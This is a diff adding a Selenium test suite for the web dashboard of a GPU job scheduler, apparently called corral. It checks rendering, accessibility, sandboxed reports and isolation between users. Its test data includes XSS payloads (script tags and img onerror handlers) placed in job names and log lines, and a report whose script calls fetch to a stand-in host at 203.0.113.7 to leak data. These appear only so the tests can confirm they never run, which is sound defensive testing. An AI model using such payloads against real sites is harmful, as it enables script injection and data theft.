@@ -1,0 +1,508 @@
+"""The dashboard in a real headless chromium against a live `corral serve` (simulated GPUs, TCP with tokens).
+
+One daemon and one browser for the module, the tests in order: log in, the GPU grid, the queue, users, jobs and a
+job's live log, the reports, a keyboard-only walk, the socket (through a local forwarder, no login), another user's
+view (trust), and at the end: no request ever left 127.0.0.1 and no hostile text ran. Screenshots go to
+$CORRAL_ARTIFACTS/dashboard (or pytest's tmp folder); docs/dashboard/*.png are copies of them.
+
+As root, the jobs belong to two real users made for the test (A and B, removed afterwards); otherwise to the test's
+own user, and the trust test is skipped.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import pwd
+import secrets
+import socket
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+
+from tests.daemon.realusers import can_run, local_users
+from tests.dashboard.browser import Network, chromium, require_browser
+from tests.mesos.live import Live, live_corral
+
+require_browser()
+
+from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException  # noqa: E402
+from selenium.webdriver.common.action_chains import ActionChains  # noqa: E402
+from selenium.webdriver.common.by import By  # noqa: E402 - only where a browser is
+from selenium.webdriver.common.keys import Keys  # noqa: E402
+from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402
+
+HOSTILE_NAMES = (
+    "<script>window.__pwned=1</script>",
+    '<img src=x onerror="window.__pwned=2">',
+    "[/infer] 日本語 ✓ <b>bold</b>",
+)
+LOG_LINE = "tick <img src=x onerror=window.__pwned=3> [/infer] été"
+REPORT = (
+    "<!DOCTYPE html><html><body><h1>Policy comparison</h1>"
+    '<img alt="plot" src="data:image/png;base64,'
+    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==">'
+    # A report may not run scripts nor reach anything: were this to run, the request log would show it.
+    "<script>fetch('http://203.0.113.7/leak');document.body.append('SCRIPT RAN')</script>"
+    "<table><tr><th>policy</th><th>allocated %</th></tr><tr><td>fgd</td><td>93.1</td></tr></table></body></html>"
+)
+
+
+@dataclass
+class Person:
+    name: str
+    token: str
+    jobs: list[str] = field(default_factory=list)
+
+
+@dataclass
+class Site:
+    live: Live
+    people: dict[str, Person]  # "root" (the test's own user), "a" and "b" (real users as root, else the same user)
+    secret: str  # in A's command, environment and output
+    shots: Path
+    driver: Any
+    network: Network
+    two_users: bool
+
+
+def submit(live: Live, token: str, **body: Any) -> str:
+    with httpx.Client(base_url=live.url, headers={"Authorization": f"Bearer {token}"}, timeout=30) as client:
+        made = client.post("/v1/jobs", json=body)
+        assert made.status_code == 201, made.text
+        return str(made.json()["id"])
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    root = tmp_path_factory.mktemp("browser")
+    reports = root / "reports"
+    (reports / "matrix").mkdir(parents=True)
+    (reports / "matrix" / "matrix.html").write_text(REPORT)
+    artifacts = os.environ.get("CORRAL_ARTIFACTS")
+    shots = Path(artifacts) / "dashboard" if artifacts else tmp_path_factory.mktemp("dashboard-screenshots")
+    shots.mkdir(parents=True, exist_ok=True)
+    two_users = can_run()
+    with contextlib.ExitStack() as stack:
+        users = stack.enter_context(local_users(("a", None), ("b", None))) if two_users else {}
+        live = stack.enter_context(live_corral(root, "--reports", str(reports), "--sharing", "time-slicing"))
+        people = {"root": Person(pwd.getpwuid(os.geteuid()).pw_name, live.token)}
+        with httpx.Client(transport=httpx.HTTPTransport(uds=live.local.env["CORRAL_SOCKET"]), timeout=30) as unix:
+            for role in ("a", "b"):
+                if not two_users:
+                    people[role] = people["root"]
+                    continue
+                made = unix.post("http://corral/v1/tokens", json={"name": role, "user": users[role].name})
+                assert made.status_code == 201, made.text
+                people[role] = Person(users[role].name, made.json()["token"])
+        secret = "S3CRET" + secrets.token_hex(8)
+        a, b = people["a"], people["b"]
+        a.jobs.append(submit(live, a.token, command=["sh", "-c", f"echo {secret}; sleep 600"], gpus=1,
+                             time_limit="10m", env={"A_SECRET": secret}, name=HOSTILE_NAMES[0]))  # fmt: skip
+        a.jobs.append(submit(live, a.token, command=["sh", "-c", f"while :; do echo '{LOG_LINE}'; sleep 0.4; done"],
+                             gpu_fraction=0.5, gpu_memory="20GiB", time_limit="10m", name="a share"))  # fmt: skip
+        b.jobs.append(submit(live, b.token, command=["sleep", "600"], gpu_fraction=0.25, gpu_memory="10GiB",
+                             time_limit="10m", name=HOSTILE_NAMES[1]))  # fmt: skip
+        b.jobs.append(submit(live, b.token, command=["echo", "needs both"], gpus=2, name=HOSTILE_NAMES[2]))
+        driver = stack.enter_context(chromium(root / "profile"))
+        yield Site(live, people, secret, shots, driver, Network(), two_users)
+        for person in people.values():
+            for job in person.jobs:
+                live.local.run("cancel", job, ok=False)
+
+
+def until(site: Site, what: str, check: Callable[[Any], Any], timeout: float = 20) -> Any:
+    # The page redraws its view every 2 s: an element found a moment ago may be gone, and is looked for again.
+    ignored = (StaleElementReferenceException, NoSuchElementException)
+    try:
+        return WebDriverWait(site.driver, timeout, poll_frequency=0.2, ignored_exceptions=ignored).until(check)
+    except Exception as exc:
+        site.driver.save_screenshot(str(site.shots / "failed.png"))
+        raise AssertionError(f"timed out waiting for {what}; page text:\n{text(site)[:3000]}") from exc
+
+
+# Read in one script each, so that a redraw between two reads cannot mix two versions of the view.
+def text(site: Site) -> str:
+    return str(site.driver.execute_script("return document.body.innerText"))
+
+
+def view_text(site: Site) -> str:
+    return str(site.driver.execute_script("return document.getElementById('view').innerText"))
+
+
+def heading(site: Site) -> str:
+    return str(site.driver.execute_script("return document.querySelector('#view h2')?.innerText || ''"))
+
+
+def texts(site: Site, selector: str) -> list[str]:
+    found = site.driver.execute_script(
+        "return [...document.querySelectorAll(arguments[0])].map(e => e.innerText)", selector
+    )
+    return [str(t) for t in found]
+
+
+def key(site: Site, keys: str) -> None:
+    """Keys as a person types them: to whatever has the focus (or the page, when nothing has)."""
+    ActionChains(site.driver).send_keys(keys).perform()
+
+
+def shot(site: Site, name: str) -> None:
+    site.driver.save_screenshot(str(site.shots / f"{name}.png"))
+
+
+def login(site: Site, person: Person) -> None:
+    driver = site.driver
+    driver.get(site.live.url + "/ui/")
+    box = until(
+        site,
+        "the login form",
+        lambda d: d.find_element(By.ID, "token") if d.find_element(By.ID, "token").is_displayed() else None,
+    )
+    box.send_keys(person.token + Keys.ENTER)
+    until(site, f"{person.name}'s view", lambda d: d.find_element(By.ID, "whoami").text.startswith(person.name))
+
+
+def test_login_page_then_the_gpu_grid(site: Site) -> None:
+    site.driver.get(site.live.url + "/ui/")
+    until(site, "the login form", lambda d: d.find_element(By.ID, "token").is_displayed())
+    assert site.driver.switch_to.active_element.get_attribute("id") == "token"
+    shot(site, "login")
+    login(site, site.people["root"])
+    a, b = site.people["a"], site.people["b"]
+
+    def grid_ready(_: Any) -> bool:
+        body = view_text(site)
+        return heading(site).startswith("GPUs (2)") and f"#{a.jobs[0]}" in body and f"#{b.jobs[0]}" in body
+
+    until(site, "both GPUs with their shares", grid_ready)
+    cards = texts(site, "#view article.card")
+    assert len(cards) == 2
+    whole, shared = sorted(cards, key=lambda t: "whole GPU" not in t)
+    assert f"#{a.jobs[0]} · {a.name} · whole GPU" in whole
+    assert "memory: used not measured, granted 80 GiB of 80 GiB" in whole
+    assert f"#{a.jobs[1]} · {a.name} · 500m of the GPU, 20 GiB" in shared
+    assert f"#{b.jobs[0]} · {b.name} · 250m of the GPU, 10 GiB" in shared
+    assert "granted 30 GiB of 80 GiB" in shared and "granted: 0.75 of the GPU (750m)" in shared
+    # the sparkline: an SVG with a name, drawing samples of the share granted
+    until(site, "a sparkline", lambda d: d.find_elements(By.CSS_SELECTOR, "svg.spark polyline.granted"))
+    label = site.driver.find_element(By.CSS_SELECTOR, "svg.spark").get_attribute("aria-label")
+    assert "share granted" in label and "utilisation not measured" in label
+    shot(site, "gpus")
+
+
+def test_the_queue_says_why_and_when(site: Site) -> None:
+    key(site, "q")
+    b = site.people["b"]
+    waiting = b.jobs[1]
+
+    def explained(_: Any) -> bool:
+        rows = texts(site, "#view tbody tr")
+        return heading(site) == "Queue (1 waiting)" and any("1 of 1" in r and "insufficient GPU" in r for r in rows)
+
+    until(site, "the queued job with its reason", explained)
+    (row,) = texts(site, "#view tbody tr")
+    assert f"#{waiting}" in row and HOSTILE_NAMES[2] in row  # rendered literally, markup and all
+    assert "2 × GPU" in row and "Reserved for it" in row
+    # the head's reservation: an estimated start, in words and as an ISO 8601 instant
+    start = site.driver.execute_script(
+        "const t = document.querySelector('#view tbody time'); return [t.innerText, t.dateTime]"
+    )
+    assert start[0].startswith("in ") and start[1].endswith("Z")
+    assert site.driver.execute_script("return document.querySelector('#view b')") is None
+    shot(site, "queue")
+
+
+def test_users_usage(site: Site) -> None:
+    key(site, "u")
+    a, b = site.people["a"], site.people["b"]
+    until(site, "the users' table", lambda _: heading(site) == "Users" and "GPUs held" in view_text(site))
+    rows = {r.split("\t")[0]: r.replace("\t", " ") for r in texts(site, "#view tbody tr")}
+    if site.two_users:
+        assert rows[a.name] == f"{a.name} 2 0 1.5 (75% of 2) 100 GiB"
+        assert rows[b.name] == f"{b.name} 1 1 0.25 (13% of 2) 10 GiB"
+    assert "no queues" in view_text(site)  # no /v1/queues on this daemon: said, not hidden
+    shot(site, "users")
+
+
+# What GET /v1/queues and GET /v1/shares answer once queues exist (the `queues` branch's shapes, docs/queues.md),
+# with a hostile queue name: the page is given them in place of this daemon's 404s.
+QUEUES = {
+    "default_queue": "default",
+    "fair_share": True,
+    "half_life_s": 604800.0,
+    "queues": [
+        {"name": "default", "default": True, "weight": 1.0, "max_priority": None, "guarantee": {}, "limit": {},
+         "borrow_limit": {}, "in_use": {"gpus": 1, "gpu_milli": 1000, "gpu_memory": 81920, "cpus": 1000,
+         "memory": 1024}, "borrowing": {}, "below_guarantee": False, "pending": 1, "running": 2},
+        {"name": "<i>research</i>", "default": False, "weight": 3.0, "max_priority": 50,
+         "guarantee": {"gpus": 1}, "limit": {"gpus": 2, "gpu_memory": 163840}, "borrow_limit": {}, "in_use": {},
+         "borrowing": {}, "below_guarantee": True, "pending": 0, "running": 0},
+    ],
+}  # fmt: skip
+SHARES = {
+    "half_life_s": 604800.0,
+    "resources": ["gpu_milli", "gpu_memory_mib", "cpu_milli", "memory_mib"],
+    "accounts": [
+        {"queue": "default", "user": None, "weight": 1.0, "norm_shares": 0.25, "dominant_share": 0.5,
+         "effective_usage": 0.5, "fairshare_factor": 0.25, "usage": {"gpu_milli": 1500.0, "gpu_memory_mib": 0,
+         "cpu_milli": 3000.0, "memory_mib": 3072.0}},
+        {"queue": "default", "user": "alice", "weight": 1.0, "norm_shares": 1.0, "dominant_share": 0.5,
+         "effective_usage": 0.5, "fairshare_factor": 0.5, "usage": {"gpu_milli": 1500.0}},
+    ],
+}  # fmt: skip
+FAKE_QUEUES = """
+const answers = {"/v1/queues": arguments[0], "/v1/shares": arguments[1]};
+window.__realFetch = window.__realFetch || window.fetch;
+window.fetch = (path, init) => path in answers
+  ? Promise.resolve(new Response(answers[path], {status: 200, headers: {"Content-Type": "application/json"}}))
+  : window.__realFetch(path, init);
+"""
+
+
+def test_queues_and_fair_share_once_the_daemon_has_them(site: Site) -> None:
+    site.driver.execute_script(FAKE_QUEUES, json.dumps(QUEUES), json.dumps(SHARES))
+    try:
+        until(site, "the queues' tables", lambda _: "Fair share: each queue" in view_text(site))
+        queues, shares = site.driver.execute_script(
+            "return [...document.querySelectorAll('#view table')].slice(1).map(t => t.innerText)"
+        )
+        assert "<i>research</i>" in queues and "default (default)" in queues
+        assert "1 GPU, 1 GPU (1000m), 80 GiB GPU memory, 1 CPU, 1 GiB" in queues  # default's in_use, in words
+        assert "2 GPUs, 160 GiB GPU memory" in queues  # research's limit
+        assert "(the queue)" in shares and "alice" in shares and "0.250" in shares
+        assert "half-life of 7.0 days" in shares
+        assert site.driver.execute_script("return document.querySelector('#view i')") is None
+        shot(site, "fair-share")
+    finally:
+        site.driver.execute_script("if (window.__realFetch) window.fetch = window.__realFetch")
+
+
+def test_jobs_and_a_live_log(site: Site) -> None:
+    key(site, "j")
+    a = site.people["a"]
+    until(site, "the jobs table", lambda _: heading(site).startswith("Jobs (newest 4)"))
+    body = view_text(site)
+    for name in HOSTILE_NAMES:
+        assert name in body  # as text: no markup made of it
+    assert "sh -c 'while :; do echo '\"'\"'tick" in body  # the command as a shell would quote it
+    site.driver.find_element(By.CSS_SELECTOR, f'#view a[href="#job/{a.jobs[1]}"]').click()
+    until(site, "the job's page", lambda _: heading(site).startswith(f"Job {a.jobs[1]}"))
+    until(site, "a few log lines", lambda _: "".join(texts(site, "pre.log")).count(LOG_LINE) >= 2)
+    seen = "".join(texts(site, "pre.log")).count(LOG_LINE)
+    until(site, "more lines, live", lambda _: "".join(texts(site, "pre.log")).count(LOG_LINE) > seen)
+    fields = view_text(site)
+    assert "20 GiB each" in fields and "Environment\n0 variables" in fields and "Time limit\n600 s" in fields
+    assert site.driver.find_elements(By.CSS_SELECTOR, "pre.log img") == []
+    shot(site, "job")
+
+
+# WCAG 2's contrast ratio of every visible piece of text against the background it is drawn on.
+LOW_CONTRAST = """
+const rgb = (s) => (s.match(/[\\d.]+/g) || []).map(Number);
+const lum = (c) => { const [r, g, b] = c.slice(0, 3).map((v) => { v /= 255;
+  return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
+const under = (e) => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor);
+  if (c.length === 3 || c[3] > 0) return c; } return [255, 255, 255]; };
+const low = [];
+const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+while (walk.nextNode()) {
+  const node = walk.currentNode, e = node.parentElement;
+  if (!node.textContent.trim() || !e.getClientRects().length) continue;
+  const a = lum(rgb(getComputedStyle(e).color)), b = lum(under(e));
+  const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
+  if (ratio < 4.5) low.push(`${node.textContent.trim().slice(0, 40)}: ${ratio.toFixed(2)}`);
+}
+return low;
+"""
+
+
+def test_text_is_readable_and_states_are_not_colour_alone(site: Site) -> None:
+    a = site.people["a"]
+    # the check itself sees faint text (grey on white: 1.61)
+    site.driver.get(f"{site.live.url}/ui/#gpus")
+    until(site, "the grid", lambda _: heading(site).startswith("GPUs"))
+    site.driver.execute_script("const f = document.createElement('p'); f.textContent = 'faint';"
+                               "f.style.color = '#cccccc'; document.body.append(f)")  # fmt: skip
+    assert site.driver.execute_script(LOW_CONTRAST) == ["faint: 1.61"]
+    site.driver.execute_script("document.body.lastElementChild.remove()")
+    for view, ready in (("gpus", "GPUs"), ("queue", "Queue"), ("jobs", "Jobs"), (f"job/{a.jobs[1]}", "Job")):
+        site.driver.get(f"{site.live.url}/ui/#{view}")
+        until(site, view, lambda _, ready=ready: heading(site).startswith(ready))  # type: ignore[misc]
+        assert site.driver.execute_script(LOW_CONTRAST) == [], view
+    # each state badge says its state in words (and a symbol), not by its colour only
+    site.driver.get(f"{site.live.url}/ui/#jobs")
+    until(site, "the jobs", lambda _: heading(site).startswith("Jobs"))
+    badges = texts(site, "#view .state")
+    assert badges and all(b.split()[-1] in {"running", "queued", "starting", "succeeded", "failed"} for b in badges)
+
+
+def test_reports_are_sandboxed(site: Site) -> None:
+    key(site, "r")
+    until(site, "the report list", lambda _: heading(site) == "Simulation reports (1)")
+    frame = site.driver.find_element(By.CSS_SELECTOR, "iframe.report")
+    assert frame.get_attribute("sandbox") == ""  # no scripts, no same origin
+    site.driver.switch_to.frame(frame)
+    try:
+        until(site, "the report inside", lambda d: "Policy comparison" in d.find_element(By.TAG_NAME, "body").text)
+        assert "SCRIPT RAN" not in site.driver.find_element(By.TAG_NAME, "body").text
+    finally:
+        site.driver.switch_to.default_content()
+    shot(site, "reports")
+
+
+def test_keyboard_only_walk(site: Site) -> None:
+    driver = site.driver
+    driver.get("about:blank")  # a fresh load (only the fragment would change otherwise): the focus at the top
+    driver.get(site.live.url + "/ui/#gpus")  # still logged in: the session cookie
+    until(site, "the GPU grid", lambda _: heading(site).startswith("GPUs"))
+    order = []
+    for _ in range(9):
+        key(site, Keys.TAB)
+        order.append(str(driver.execute_script("return document.activeElement.innerText")).split("\n")[0])
+        outline = driver.execute_script(
+            "const e = document.activeElement; return [getComputedStyle(e).outlineStyle, e.matches(':focus-visible'),"
+            " e.matches(':focus'), document.hasFocus(), e.outerHTML]"
+        )
+        assert outline[0] != "none", f"no visible focus on {order[-1]!r}: {outline}"
+    assert order[:8] == [
+        "Skip to content",
+        "GPUs g",
+        "Queue q",
+        "Users u",
+        "Jobs j",
+        "Reports r",
+        "Pause updates",
+        "Log out",
+    ], order
+    # back to "Queue" by Shift+Tab and open it with Enter: the view's heading takes the focus
+    for _ in range(6):
+        ActionChains(driver).key_down(Keys.SHIFT).send_keys(Keys.TAB).key_up(Keys.SHIFT).perform()
+    assert driver.switch_to.active_element.text == "Queue q"
+    key(site, Keys.ENTER)
+    until(site, "the queue by keyboard", lambda _: heading(site).startswith("Queue"))
+    until(site, "focus on the heading", lambda d: d.switch_to.active_element.tag_name == "h2")
+    # letters switch views; Tab from the heading reaches the first job link, Enter opens it
+    key(site, "j")
+    until(
+        site,
+        "jobs by keyboard",
+        lambda d: heading(site).startswith("Jobs") and d.switch_to.active_element.tag_name == "h2",
+    )
+    key(site, Keys.TAB)
+    link = driver.switch_to.active_element
+    assert link.get_attribute("href").split("#")[1].startswith("job/")
+    shot(site, "keyboard")
+    key(site, Keys.ENTER)
+    until(site, "the job by keyboard", lambda _: heading(site).startswith("Job "))
+    # the pause button is a real button, with its state said in words and aria-pressed
+    key(site, "p")
+    pause = driver.find_element(By.ID, "pause")
+    assert (
+        pause.tag_name == "button" and pause.get_attribute("aria-pressed") == "true" and pause.text == "Resume updates"
+    )
+    key(site, "p")
+    assert pause.get_attribute("aria-pressed") == "false"
+
+
+@contextlib.contextmanager
+def forwarder(sock: str) -> Iterator[int]:
+    """127.0.0.1:PORT -> the daemon's Unix socket, as `ssh -L PORT:SOCKET` does: the daemon sees this process."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    stop = threading.Event()
+
+    def pipe(src: socket.socket, dst: socket.socket) -> None:
+        with contextlib.suppress(OSError):
+            while data := src.recv(65536):
+                dst.sendall(data)
+        with contextlib.suppress(OSError):
+            dst.shutdown(socket.SHUT_WR)
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                client, _ = server.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            upstream = socket.socket(socket.AF_UNIX)
+            upstream.connect(sock)
+            for a, b in ((client, upstream), (upstream, client)):
+                threading.Thread(target=pipe, args=(a, b), daemon=True).start()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    try:
+        yield server.getsockname()[1]
+    finally:
+        stop.set()
+        thread.join(timeout=2)
+        server.close()
+
+
+def test_through_the_socket_no_login_is_asked(site: Site) -> None:
+    with forwarder(site.live.local.env["CORRAL_SOCKET"]) as port:
+        site.driver.get(f"http://127.0.0.1:{port}/ui/#users")
+        until(site, "the socket user's view", lambda d: d.find_element(By.ID, "whoami").text != "")
+        assert not site.driver.find_element(By.ID, "login").is_displayed()
+        assert not site.driver.find_element(By.ID, "logout").is_displayed()  # nothing to log out of
+        until(site, "the users' table", lambda _: heading(site) == "Users")
+        site.network.read(site.driver)
+        site.driver.get("about:blank")  # stop polling before the forwarder goes
+
+
+def test_another_user_sees_only_their_own(site: Site) -> None:
+    if not site.two_users:
+        pytest.skip("needs root: real users A and B")
+    a, b = site.people["a"], site.people["b"]
+    site.network.read(site.driver)  # what came before is root's
+    site.network.responses.clear()
+    driver = site.driver
+    driver.get(site.live.url + "/ui/#gpus")
+    until(site, "the logout button", lambda d: d.find_element(By.ID, "logout").is_displayed())
+    driver.find_element(By.ID, "logout").click()
+    until(site, "the login form again", lambda d: d.find_element(By.ID, "token").is_displayed())
+    login(site, b)
+    until(site, "B's grid", lambda _: heading(site).startswith("GPUs") and "another user" in view_text(site))
+    grid = view_text(site)
+    assert a.name not in grid and f"#{b.jobs[0]} · {b.name}" in grid
+    assert not driver.find_elements(By.CSS_SELECTOR, f'#view a[href="#job/{a.jobs[0]}"]')  # no link to A's job
+    pages = {"gpus": grid}
+    for view in ("queue", "users", "jobs", f"job/{a.jobs[0]}", f"job/{a.jobs[1]}"):
+        driver.get(f"{site.live.url}/ui/#{view}")
+        until(site, f"B's {view}", lambda _: heading(site) != "" and "Loading" not in heading(site))
+        time.sleep(0.3)
+        pages[view] = text(site) + driver.page_source
+    assert f"No job {a.jobs[0]} that you may see." in pages[f"job/{a.jobs[0]}"]
+    assert "(other users)" in pages["users"] and a.name not in pages["users"]
+    shot(site, "other-user")
+    # neither what B's page shows nor any answer it got holds A's secret, commands, job names or output
+    site.network.read(driver)
+    bodies = site.network.bodies(driver, lambda url: url.startswith(site.live.url))
+    assert len(bodies) >= 5, list(bodies)
+    for where, content in [*pages.items(), *bodies.items()]:
+        for leak in (site.secret, HOSTILE_NAMES[0], "a share", "while :", "A_SECRET"):
+            assert leak not in content, f"{leak!r} shown to {b.name} in {where}"
+
+
+def test_no_request_left_localhost_and_no_hostile_text_ran(site: Site) -> None:
+    site.network.read(site.driver)
+    assert len(site.network.requests) > 20
+    # chrome:// pages are the browser's own (its first tab); everything that goes over a network must stay here
+    network = [
+        u for u in site.network.requests if urlsplit(u).scheme not in ("chrome", "chrome-untrusted", "data", "about")
+    ]
+    elsewhere = [u for u in network if urlsplit(u).hostname != "127.0.0.1"]
+    assert elsewhere == []
+    assert any(u.startswith(site.live.url + "/ui/static/app.js") for u in network)
+    for pwned in ("window.__pwned", "document.title.includes('pwned')"):
+        assert not site.driver.execute_script(f"return {pwned}")
